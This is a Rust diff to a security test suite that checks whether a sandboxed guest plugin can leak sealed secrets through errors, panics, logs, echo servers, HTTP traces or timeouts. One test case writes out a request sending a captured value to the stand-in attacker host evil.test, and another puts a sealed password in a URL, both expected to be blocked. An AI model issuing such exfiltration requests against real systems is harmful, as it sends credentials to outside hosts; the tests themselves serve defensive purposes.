@@ -3,7 +3,7 @@
 //! where it belongs.
 
 use super::garden::seed;
-use super::scene::{Scene, Search};
+use super::scene::{CLOUDS, Scene, Search};
 use crate::case::Case;
 use crate::world::World;
 use rustix::process::Signal;
@@ -46,10 +46,10 @@ impl Default for Ending {
 
 pub(super) fn cases() -> Vec<Case> {
     let endings = endings().into_iter().enumerate().map(|(turn, ending)| {
-        let name = format!("planted everywhere, then {}", ending.name);
-        Case::new(CLASS, &name, ending.holes, move |world| {
+        Case::new(CLASS, ending.name, ending.holes, move |world| {
             ending.attempt(world, turn).map_err(|why| format!("ATTACK_SEED={}: {why}", seed()))
         })
+        .speaking_to(CLOUDS)
     });
     endings.collect()
 }
@@ -59,56 +59,56 @@ fn endings() -> Vec<Ending> {
     let told = json!({"op": "error", "kind": "cloud", "message": "{{BASE|json}}"});
     vec![
         Ending {
-            name: "a success",
+            name: "planted everywhere, then a success",
             holes: &["sealed-properties", "sealed-env", "sealed-agent"],
             operations: json!([{"op": "result", "json": "vm-2"}]),
             search: Search::All,
             ..Ending::default()
         },
         Ending {
-            name: "an error that quotes all it saw",
+            name: "planted everywhere, then an error that quotes all it saw",
             operations: json!([{"op": "error", "kind": "cloud", "message": "{{0.ok|json}} {{5.ok|base64}} {{6.ok|json}} {{7.ok|json}} {{18.ok|json}}"}]),
             says: &["<sealed:auth.password>"],
             ..Ending::default()
         },
         Ending {
-            name: "a denial",
+            name: "planted everywhere, then a denial",
             operations: json!([get("https://evil.test/?q={{5.ok}}"), told]),
             says: &["no grant names the host evil.test"],
             ..Ending::default()
         },
         Ending {
-            name: "a seal in the wrong place",
+            name: "planted everywhere, then a seal in the wrong place",
             operations: json!([get("https://open.iaas.test/?q={{props.auth.password}}"), told]),
             says: &["the sealed value `auth.password` stands in the URL"],
             ..Ending::default()
         },
         Ending {
-            name: "a trap",
+            name: "planted everywhere, then a trap",
             operations: json!([{"op": "trap"}]),
             says: &["guest: trapped in create_vm"],
             ..Ending::default()
         },
         Ending {
-            name: "a panic that quotes all it saw",
+            name: "planted everywhere, then a panic that quotes all it saw",
             operations: json!([{"op": "panic", "message": "{{0.ok|json}} {{7.ok|json}}"}]),
             says: &["guest: "],
             ..Ending::default()
         },
         Ending {
-            name: "an exit",
+            name: "planted everywhere, then an exit",
             operations: json!([{"op": "exit", "code": 0}]),
             says: &["called exit"],
             ..Ending::default()
         },
         Ending {
-            name: "too much recursion",
+            name: "planted everywhere, then too much recursion",
             operations: json!([{"op": "recurse", "frames": "small"}]),
             says: &["`stack_kib`"],
             ..Ending::default()
         },
         Ending {
-            name: "no more time",
+            name: "planted everywhere, then no more time",
             config: json!({"limits": {"wall_seconds": 6, "cleanup_seconds": 5}}),
             search: Search::Nothing,
             operations: json!([{"op": "clock.sleep", "ms": 60_000, "on_cancel": [{"op": "log", "message": "{{0.ok|json}}"}, {"op": "http", "method": "POST", "url": "https://open.iaas.test/undo"}]}]),
@@ -116,7 +116,7 @@ fn endings() -> Vec<Ending> {
             ..Ending::default()
         },
         Ending {
-            name: "no more time for a guest that does not listen",
+            name: "planted everywhere, then no more time for a guest that does not listen",
             config: json!({"limits": {"wall_seconds": 6, "cleanup_seconds": 1}}),
             search: Search::Nothing,
             operations: json!([{"op": "wasi.sleep", "ms": 60_000}]),
@@ -124,7 +124,7 @@ fn endings() -> Vec<Ending> {
             ..Ending::default()
         },
         Ending {
-            name: "no more computing",
+            name: "planted everywhere, then no more computing",
             config: json!({"limits": {"cpu_seconds": 2, "cleanup_seconds": 1}}),
             search: Search::Nothing,
             operations: json!([{"op": "loop"}]),
@@ -132,63 +132,70 @@ fn endings() -> Vec<Ending> {
             ..Ending::default()
         },
         Ending {
-            name: "no more memory",
+            name: "planted everywhere, then no more memory",
             config: json!({"limits": {"memory_mib": 16}}),
             operations: json!([{"op": "grow", "mib": 64}, told]),
             says: &["`memory_mib`"],
             ..Ending::default()
         },
         Ending {
-            name: "an answer that is none",
+            name: "planted everywhere, then an answer that is none",
             serve: json!({"open.iaas.test": {"raw": "nonsense"}}),
             operations: json!([get("https://open.iaas.test/"), told]),
             says: &["protocol"],
             ..Ending::default()
         },
         Ending {
-            name: "an answer that is cut short",
+            name: "planted everywhere, then an answer that is cut short",
             serve: json!({"api.iaas.test/v1/cut": {"raw": "HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\nhalf"}}),
             operations: json!([get("https://api.iaas.test/v1/cut"), told]),
             says: &["truncated"],
             ..Ending::default()
         },
         Ending {
-            name: "a server that echoes a credential",
+            name: "planted everywhere, then a server that echoes a credential",
             serve: json!({"basic.iaas.test/echo": {"echo": true}}),
             operations: json!([get("https://basic.iaas.test/echo"), told]),
             says: &["it holds the secret `basic."],
             ..Ending::default()
         },
         Ending {
-            name: "servers that echo agent settings and a token",
+            name: "planted everywhere, then servers that echo agent settings and a token",
             serve: json!({"api.iaas.test/v1/echo": {"echo": true}}),
             operations: json!([get("https://api.iaas.test/v1/echo"), get("https://api.iaas.test/v1/echo"), {"op": "result", "json": "vm-2"}]),
             says: &["policy: 2 answers held secrets (last `token of login main`)"],
             ..Ending::default()
         },
         Ending {
-            name: "a token that is taken no longer",
+            name: "planted everywhere, then a token that is taken no longer",
             serve: json!({"form.iaas.test/401": {"status": 401, "echo": true}, "oauth.iaas.test": ["as before", {"status": 403, "echo": true}]}),
             operations: json!([get("https://form.iaas.test/401"), told]),
             says: &["login `form`", "HTTP 403"],
             ..Ending::default()
         },
         Ending {
-            name: "lines of JSON on stderr",
+            name: "planted everywhere, then lines of JSON on stderr",
             config: json!({"log": {"level": "debug", "format": "json"}}),
             operations: json!([{"op": "log", "level": "error", "message": "{{0.ok|json}}\n{{7.ok|json}}\u{1b}[2J"}, {"op": "trap"}]),
             says: &["guest: trapped"],
             ..Ending::default()
         },
         Ending {
-            name: "the Director's signal to end",
+            name: "planted everywhere, then a trace of HTTP with bodies",
+            config: json!({"http_trace": "bodies"}),
+            operations: json!([{"op": "result", "json": "vm-2"}]),
+            search: Search::All,
+            ..Ending::default()
+        },
+        Ending {
+            name: "planted everywhere, then the Director's signal to end",
             operations: json!([{"op": "log", "message": "waiting"}, {"op": "clock.sleep", "ms": 60_000, "on_cancel": [{"op": "log", "message": "{{0.ok|json}}"}]}]),
             signal: Some("info: waiting"),
             says: &["SIGTERM"],
             ..Ending::default()
         },
         Ending {
-            name: "an answer that is garbage",
+            name: "planted everywhere, then an answer that is garbage",
             operations: json!([{"op": "garbage", "kind": "bad-json"}]),
             says: &["guest: "],
             ..Ending::default()
@@ -215,7 +222,9 @@ impl Ending {
         self.ended(&response)?;
         clean(&scene, &response)?;
         scene.held(&response.stderr)?;
-        let told = format!("{}{}", response.json, response.stderr);
+        // The trace shows what the host sent, and so it is redacted.
+        let seen: Vec<&str> = response.stderr.lines().filter(|line| !line.contains(" http_trace trace: ")).collect();
+        let told = format!("{}{}", response.json, seen.join("\n"));
         if told.contains("<redacted>") {
             return Err(format!("the guest knows what it should not: {told}"));
         }
